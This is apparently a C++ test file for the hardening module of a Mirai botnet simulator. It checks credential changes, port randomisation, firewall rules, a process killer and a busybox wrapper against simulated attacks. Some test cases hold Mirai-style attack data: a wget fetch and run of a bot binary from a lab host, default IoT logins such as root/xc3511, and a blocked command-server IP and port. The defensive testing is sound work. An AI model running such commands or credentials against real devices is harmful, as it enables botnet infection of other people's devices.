#include <algorithm>
#include <sstream>

#include "doctest.h"
#include "helpers.hpp"
#include "miraisim/harden.hpp"
#include "miraisim/mirai.hpp"

using namespace miraisim;
using namespace miraisim::harden;
using device::BuiltinProfile;
using device::ProcessOrigin;
using testutil::addr;

namespace {

// Full observable device state, for idempotence comparisons.
std::string snapshot(const device::DeviceState& dev) {
    std::ostringstream out;
    out << device::profile_to_json_text(dev.profile());
    for (const auto& rule : dev.firewall().rules()) {
        out << "rule " << static_cast<int>(rule.kind) << " " << rule.port << " "
            << rule.address.str() << "\n";
    }
    out << "killer=" << dev.process_killer_armed() << " wrapper=" << dev.busybox_wrapper_armed()
        << "\n";
    return out.str();
}

}  // namespace

TEST_CASE("plans cover every action exactly once") {
    for (const auto& name : device::builtin_profile_names()) {
        auto p = plan(device::builtin_profile(name).value());
        CHECK(p.entries.size() == std::size(kAllActions));
        for (Action a : kAllActions) {
            CHECK(p.entry(a) != nullptr);
        }
    }
    device::DeviceProfile empty;
    empty.name = "bare";
    CHECK(plan(empty).entries.size() == std::size(kAllActions));
}

TEST_CASE("plan applicability follows the per-device policy") {
    auto coolead = plan(device::builtin_profile(BuiltinProfile::Coolead));
    auto pi = plan(device::builtin_profile(BuiltinProfile::RaspberryPi));
    auto sricam = plan(device::builtin_profile(BuiltinProfile::Sricam));
    auto simulated = plan(device::builtin_profile(BuiltinProfile::Simulated));

    // telnet rows
    CHECK(coolead.entry(Action::ChangeTelnetCredentials)->apply);
    CHECK(coolead.entry(Action::RandomizeTelnetPort)->apply);
    CHECK_FALSE(coolead.entry(Action::DisableTelnetPreferSsh)->apply);
    CHECK(coolead.entry(Action::DisableTelnetPreferSsh)->warning);
    CHECK(pi.entry(Action::DisableTelnetPreferSsh)->apply);
    CHECK_FALSE(pi.entry(Action::ChangeTelnetCredentials)->apply);
    CHECK_FALSE(pi.entry(Action::RandomizeTelnetPort)->apply);  // disabled wins over the port row
    CHECK_FALSE(sricam.entry(Action::ChangeTelnetCredentials)->apply);
    CHECK(simulated.entry(Action::ChangeTelnetCredentials)->apply);

    // web rows
    CHECK(coolead.entry(Action::ChangeWebCredentials)->apply);
    CHECK_FALSE(coolead.entry(Action::ReplaceHttpWithHttps)->apply);
    CHECK(pi.entry(Action::ReplaceHttpWithHttps)->apply);
    CHECK_FALSE(sricam.entry(Action::ChangeWebCredentials)->apply);
    CHECK_FALSE(simulated.entry(Action::ReplaceHttpWithHttps)->apply);

    // shell restriction and scripts
    CHECK(coolead.entry(Action::RestrictBusyboxToRoot)->apply);
    CHECK(pi.entry(Action::RestrictBusyboxToRoot)->apply);
    CHECK_FALSE(sricam.entry(Action::RestrictBusyboxToRoot)->apply);
    CHECK(coolead.entry(Action::InstallBusyboxWrapper)->apply);
    CHECK_FALSE(pi.entry(Action::InstallBusyboxWrapper)->apply);
    CHECK_FALSE(sricam.entry(Action::InstallProcessKiller)->apply);
    CHECK(simulated.entry(Action::InstallProcessKiller)->apply);

    // firewall rows are universal
    for (const auto* p : {&coolead, &pi, &sricam, &simulated}) {
        CHECK(p->entry(Action::BlockOutboundIp)->apply);
        CHECK(p->entry(Action::BlockPort)->apply);
        CHECK_FALSE(p->entry(Action::DisableSmtp)->apply);  // no builtin exposes smtp
        CHECK_FALSE(p->entry(Action::DisableFtp)->apply);
    }
    CHECK(coolead.entry(Action::DisableTftp)->apply);
    CHECK_FALSE(sricam.entry(Action::DisableTftp)->apply);
}

TEST_CASE("custom profiles can enable the smtp and ftp rows") {
    device::DeviceProfile p;
    p.name = "mailcam";
    device::ServiceConfig smtp;
    smtp.kind = device::ServiceKind::Smtp;
    smtp.port = 25;
    device::ServiceConfig ftp;
    ftp.kind = device::ServiceKind::Ftp;
    ftp.port = 21;
    p.services = {smtp, ftp};
    auto pl = plan(p);
    CHECK(pl.entry(Action::DisableSmtp)->apply);
    CHECK(pl.entry(Action::DisableFtp)->apply);
}

TEST_CASE("changed telnet credentials defeat the original dictionary") {
    auto creds = testutil::reference_credentials();
    testutil::Lab lab;
    auto& dev = lab.add_device(device::builtin_profile(BuiltinProfile::Coolead), "10.77.0.10");

    Options opts;
    opts.avoid_list = &creds;
    REQUIRE(apply(dev, Action::ChangeTelnetCredentials, 42, opts).ok());

    const auto& auth = *dev.profile().service_at(23)->auth;
    REQUIRE(auth.size() == 1);
    CHECK(auth[0].password.size() == 16);
    CHECK_FALSE(credential_in_list(creds, auth[0]));

    auto attacker = lab.make_attacker(creds);
    auto result = attacker.brute_force(addr("10.77.0.10"), 23, creds,
                                       static_cast<int>(creds.size()));
    CHECK_FALSE(result.success.has_value());
}

TEST_CASE("randomized telnet port leaves the well-known port closed") {
    testutil::Lab lab;
    auto& dev = lab.add_device(device::builtin_profile(BuiltinProfile::Simulated), "10.77.0.13");
    REQUIRE(apply(dev, Action::RandomizeTelnetPort, 7, {}).ok());

    const auto port = dev.profile().first_service(device::ServiceKind::Telnet)->port;
    CHECK(port >= 1025);
    CHECK(port != 80);
    CHECK(lab.net.probe(lab.loader_addr, addr("10.77.0.13"), 23) == netsim::ProbeResult::Closed);
    CHECK(lab.net.probe(lab.loader_addr, addr("10.77.0.13"), port) == netsim::ProbeResult::Open);

    // same seed, same draw
    REQUIRE(apply(dev, Action::RandomizeTelnetPort, 7, {}).ok());
    CHECK(dev.profile().first_service(device::ServiceKind::Telnet)->port == port);
}

TEST_CASE("disable telnet prefers ssh with strong credentials") {
    testutil::Lab lab;
    auto& dev = lab.add_device(device::builtin_profile(BuiltinProfile::RaspberryPi),
                               "10.77.0.11");
    auto creds = testutil::reference_credentials();
    Options opts;
    opts.avoid_list = &creds;
    REQUIRE(apply(dev, Action::DisableTelnetPreferSsh, 1, opts).ok());

    CHECK_FALSE(dev.profile().has_service(device::ServiceKind::Telnet));
    const auto* ssh = dev.profile().first_service(device::ServiceKind::Ssh);
    REQUIRE(ssh != nullptr);
    CHECK(ssh->port == 22);
    CHECK(ssh->encrypted);
    CHECK(ssh->grants_shell);
    CHECK_FALSE(credential_in_list(creds, (*ssh->auth)[0]));
}

TEST_CASE("http is swapped for https on port 443") {
    testutil::Lab lab;
    auto& dev = lab.add_device(device::builtin_profile(BuiltinProfile::RaspberryPi),
                               "10.77.0.11");
    REQUIRE(apply(dev, Action::ReplaceHttpWithHttps, 1, {}).ok());
    CHECK_FALSE(dev.profile().has_service(device::ServiceKind::Http));
    const auto* https = dev.profile().first_service(device::ServiceKind::Https);
    REQUIRE(https != nullptr);
    CHECK(https->port == 443);
    CHECK(https->encrypted);
}

TEST_CASE("busybox restriction designates root only") {
    testutil::Lab lab;
    auto& dev = lab.add_device(device::builtin_profile(BuiltinProfile::RaspberryPi),
                               "10.77.0.11");
    auto session = *dev.attempt_login(23, {"pi", "raspberry"}).session;
    REQUIRE(dev.shell_exec(session, "ps").ok());

    REQUIRE(apply(dev, Action::RestrictBusyboxToRoot, 1, {}).ok());
    CHECK(dev.profile().shell_exec_users == std::set<std::string>{"root"});
    auto denied = dev.shell_exec(session, "ps");
    REQUIRE_FALSE(denied.ok());
    CHECK(denied.error().kind == device::ShellErrorKind::ShellDenied);
}

TEST_CASE("firewall actions land as rules") {
    testutil::Lab lab;
    auto& dev = lab.add_device(device::builtin_profile(BuiltinProfile::Coolead), "10.77.0.10");
    REQUIRE(apply(dev, Action::BlockOutboundIp, 1, {}).ok());
    REQUIRE(apply(dev, Action::BlockPort, 1, {}).ok());

    auto blocked = lab.net.connect(addr("10.77.0.10"), addr("5.206.225.96"), 23);
    REQUIRE_FALSE(blocked.ok());
    CHECK(blocked.error() == netsim::ConnectError::OutboundBlocked);
    CHECK(lab.net.probe(lab.loader_addr, addr("10.77.0.10"), 48101) ==
          netsim::ProbeResult::FilteredByFirewall);
    CHECK_FALSE(dev.bind_port(48101, 1));
}

TEST_CASE("blocked control port makes the bot self-terminate") {
    testutil::Lab lab;
    auto& dev = lab.add_device(testutil::shell_device_profile("armored", {"root", "pw"}, true,
                                                              true),
                               "10.77.0.30");
    REQUIRE(apply(dev, Action::BlockPort, 1, {}).ok());

    auto attacker = lab.make_attacker({{"root", "pw"}});
    auto rec = attacker.attack({addr("10.77.0.30"), 23}, lab.loader_addr);
    CHECK(rec.login_success);
    CHECK(rec.install_method.has_value());  // the payload does land
    CHECK_FALSE(rec.infected);              // but the instance cannot hold its lock
    CHECK_FALSE(dev.infected());
    CHECK(lab.cnc.bot_count() == 0);
}

TEST_CASE("tftp disablement clears the client capability") {
    testutil::Lab lab;
    auto& dev = lab.add_device(device::builtin_profile(BuiltinProfile::Coolead), "10.77.0.10");
    REQUIRE(dev.profile().has_tftp_client);
    REQUIRE(apply(dev, Action::DisableTftp, 1, {}).ok());
    CHECK_FALSE(dev.profile().has_tftp_client);
}

TEST_CASE("inapplicable actions are refused") {
    testutil::Lab lab;
    auto& sricam = lab.add_device(device::builtin_profile(BuiltinProfile::Sricam), "10.77.0.12");
    auto bad = apply(sricam, Action::ChangeTelnetCredentials, 1, {});
    REQUIRE_FALSE(bad.ok());
    CHECK(bad.error().kind == ApplyErrorKind::NotApplicable);
    CHECK_FALSE(apply(sricam, Action::RandomizeTelnetPort, 1, {}).ok());
    CHECK_FALSE(apply(sricam, Action::RestrictBusyboxToRoot, 1, {}).ok());
    CHECK_FALSE(apply(sricam, Action::InstallProcessKiller, 1, {}).ok());
    CHECK_FALSE(apply(sricam, Action::InstallBusyboxWrapper, 1, {}).ok());
}

TEST_CASE("every applicable action is idempotent under the same seed") {
    auto creds = testutil::reference_credentials();
    for (const auto& name : device::builtin_profile_names()) {
        for (Action action : kAllActions) {
            testutil::Lab lab;
            auto& dev = lab.add_device(device::builtin_profile(name).value(), "10.77.0.10");
            Options opts;
            opts.avoid_list = &creds;
            auto first = apply(dev, action, 99, opts);
            if (!first.ok()) {
                continue;
            }
            const std::string after_once = snapshot(dev);
            auto second = apply(dev, action, 99, opts);
            INFO(name << " / " << to_string(action));
            CHECK(second.ok());
            CHECK(snapshot(dev) == after_once);
        }
    }
}

TEST_CASE("full plans applied twice produce identical state") {
    auto creds = testutil::reference_credentials();
    for (const auto& name : device::builtin_profile_names()) {
        testutil::Lab lab;
        auto& dev = lab.add_device(device::builtin_profile(name).value(), "10.77.0.10");
        Options opts;
        opts.avoid_list = &creds;
        auto p = plan(device::builtin_profile(name).value(), opts);
        apply_plan(dev, p, 3, opts);
        const std::string once = snapshot(dev);
        apply_plan(dev, p, 3, opts);
        INFO(name);
        CHECK(snapshot(dev) == once);
    }
}

TEST_CASE("process killer matches the hand-applied predicate") {
    testutil::Lab lab;
    auto& dev = lab.add_device(device::builtin_profile(BuiltinProfile::Simulated), "10.77.0.13");

    SUBCASE("scan before arming is an error") {
        auto result = process_killer_scan(dev);
        REQUIRE_FALSE(result.ok());
        CHECK(result.error().kind == ApplyErrorKind::KillerNotArmed);
    }

    SUBCASE("fixed five-process table") {
        struct Row {
            const char* path;
            ProcessOrigin origin;
        };
        const Row table[] = {
            {"/tmp/.mirai", ProcessOrigin::MiraiBot},
            {"/var/tmp/.m2", ProcessOrigin::MiraiBot},
            {"/tmp/updater", ProcessOrigin::Benign},
            {"/usr/bin/app", ProcessOrigin::Benign},
            {"/opt/agent", ProcessOrigin::Benign},
        };
        for (const auto& row : table) {
            dev.spawn_direct(row.path, row.origin);
        }
        // Oracle: the predicate applied by hand.
        auto expect_killed = [](const Row& r) {
            const std::string p = r.path;
            const bool under = p.rfind("/root/", 0) == 0 || p.rfind("/tmp/", 0) == 0 ||
                               p.rfind("/var/tmp/", 0) == 0;
            return under && r.origin == ProcessOrigin::MiraiBot;
        };
        std::vector<std::string> expected;
        for (const auto& row : table) {
            if (expect_killed(row)) expected.emplace_back(row.path);
        }

        REQUIRE(apply(dev, Action::InstallProcessKiller, 1, {}).ok());
        auto killed = process_killer_scan(dev);
        REQUIRE(killed.ok());
        std::vector<std::string> got;
        for (const auto& p : killed.value()) got.push_back(p.exec_path);
        CHECK(got == expected);
        CHECK(dev.processes().size() == 3);
        CHECK_FALSE(dev.infected());
    }

    SUBCASE("armed killer runs periodically off the event queue") {
        Options opts;
        opts.killer_interval_ms = 1000;
        REQUIRE(apply(dev, Action::InstallProcessKiller, 1, opts).ok());
        dev.spawn_direct("/tmp/.mirai", ProcessOrigin::MiraiBot);
        REQUIRE(dev.infected());
        lab.net.events().run_until(lab.net.clock().now() + 1000);
        CHECK_FALSE(dev.infected());

        // keeps running: a later infection dies at the next tick
        dev.spawn_direct("/tmp/.mirai2", ProcessOrigin::MiraiBot);
        lab.net.events().run_until(lab.net.clock().now() + 1000);
        CHECK_FALSE(dev.infected());
    }
}

TEST_CASE("busybox wrapper absorbs the infection sequence") {
    testutil::Lab lab;
    auto& dev = lab.add_device(device::builtin_profile(BuiltinProfile::Simulated), "10.77.0.13");
    REQUIRE(apply(dev, Action::InstallBusyboxWrapper, 1, {}).ok());
    auto session = *dev.attempt_login(23, {"root", "xc3511"}).session;

    SUBCASE("wrapper refuses to run when not armed") {
        testutil::Lab bare_lab;
        auto& bare =
            bare_lab.add_device(device::builtin_profile(BuiltinProfile::Simulated), "10.77.0.13");
        auto s = *bare.attempt_login(23, {"root", "xc3511"}).session;
        CHECK_FALSE(busybox_wrapper_exec(bare, s, "ps").ok());
    }

    SUBCASE("mirai-pattern commands land in shadow state") {
        const auto before = dev.processes().size();
        CHECK(busybox_wrapper_exec(dev, session, "wget http://10.77.0.3/bins/mirai.bot").ok());
        auto run = busybox_wrapper_exec(dev, session, "run /tmp/.mirai");
        REQUIRE(run.ok());
        CHECK(busybox_wrapper_exec(dev, session, "bind 48101").ok());

        CHECK(dev.processes().size() == before);  // real table untouched
        CHECK(dev.port_locks().empty());
        REQUIRE(dev.shadow() != nullptr);
        CHECK(dev.shadow()->processes.size() == 1);
        CHECK(dev.shadow()->locks.count(48101) == 1);
        CHECK_FALSE(dev.infected());
    }

    SUBCASE("benign ps passes through to the real table") {
        dev.spawn_direct("/usr/sbin/telnetd", ProcessOrigin::Benign);
        auto out = busybox_wrapper_exec(dev, session, "ps");
        REQUIRE(out.ok());
        CHECK(out.value().text.find("/usr/sbin/telnetd") != std::string::npos);
    }

    SUBCASE("a wrapped device contributes zero bots in a rerun") {
        // End-to-end oracle: rerun the full attack with only the wrapper
        // armed (credentials unchanged, login still succeeds).
        auto attacker = lab.make_attacker({{"root", "xc3511"}});
        auto rec = attacker.attack({addr("10.77.0.13"), 23}, lab.loader_addr);
        CHECK(rec.login_success);
        CHECK_FALSE(rec.infected);
        CHECK_FALSE(dev.infected());
        CHECK(lab.cnc.bot_count() == 0);
        REQUIRE(dev.shadow() != nullptr);
        CHECK_FALSE(dev.shadow()->processes.empty());
    }
}

TEST_CASE("hardened builtins resist the stage-two attack for several seeds") {
    auto creds = testutil::reference_credentials();
    for (std::uint64_t seed : {1ull, 7ull, 1234ull}) {
        testutil::Lab lab;
        std::vector<std::string> addrs = {"10.77.0.10", "10.77.0.11", "10.77.0.12",
                                          "10.77.0.13"};
        std::vector<device::DeviceState*> devs;
        int i = 0;
        for (const auto& name : device::builtin_profile_names()) {
            devs.push_back(&lab.add_device(device::builtin_profile(name).value(), addrs[i++]));
        }
        Options opts;
        opts.avoid_list = &creds;
        for (auto* dev : devs) {
            auto p = plan(dev->profile(), opts);
            apply_plan(*dev, p, seed, opts);
        }
        auto attacker = lab.make_attacker(creds, 0.0, seed);
        for (const auto& cand : attacker.syn_scan(testutil::lab_scan_config())) {
            attacker.attack(cand, lab.loader_addr);
        }
        for (auto* dev : devs) {
            CHECK_FALSE(dev->infected());
        }
        CHECK(lab.cnc.bot_count() == 0);
    }
}

TEST_CASE("plan export renders as json and table") {
    auto p = plan(device::builtin_profile(BuiltinProfile::Coolead));
    auto json = plan_to_json_text(p);
    CHECK(json.find("\"ChangeTelnetCredentials\"") != std::string::npos);
    CHECK(json.find("\"Apply\"") != std::string::npos);
    CHECK(json.find("\"NotApplicable\"") != std::string::npos);
    CHECK(json.find("5.206.225.96") != std::string::npos);
    CHECK(json.find("48101") != std::string::npos);
    auto table = plan_to_table(p);
    CHECK(table.find("coolead") != std::string::npos);
    CHECK(table.find("n/a") != std::string::npos);
}
